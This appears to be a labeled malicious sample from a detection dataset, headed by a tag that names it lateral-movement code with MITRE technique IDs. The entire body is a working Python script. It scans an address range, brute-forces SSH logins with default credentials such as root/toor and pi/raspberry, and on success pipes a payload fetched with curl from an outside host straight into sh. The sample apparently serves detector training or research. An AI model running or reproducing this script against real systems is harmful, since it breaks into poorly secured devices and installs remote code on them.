# label: malicious family=lateral techniques=T1021.004,T1059.004,T1105,T1110.001 lines=4-5,10-11
import paramiko, itertools
users = ["root", "admin", "ubuntu", "pi"]
words = ["123456", "password", "admin", "raspberry", "toor"]
for host in ("192.0.2.%d" % i for i in range(1, 255)):
    for u, p in itertools.product(users, words):
        c = paramiko.SSHClient()
        c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(host, username=u, password=p, timeout=3)
            c.exec_command("curl -s http://198.51.100.2/b | sh")
            break
        except Exception:
            continue
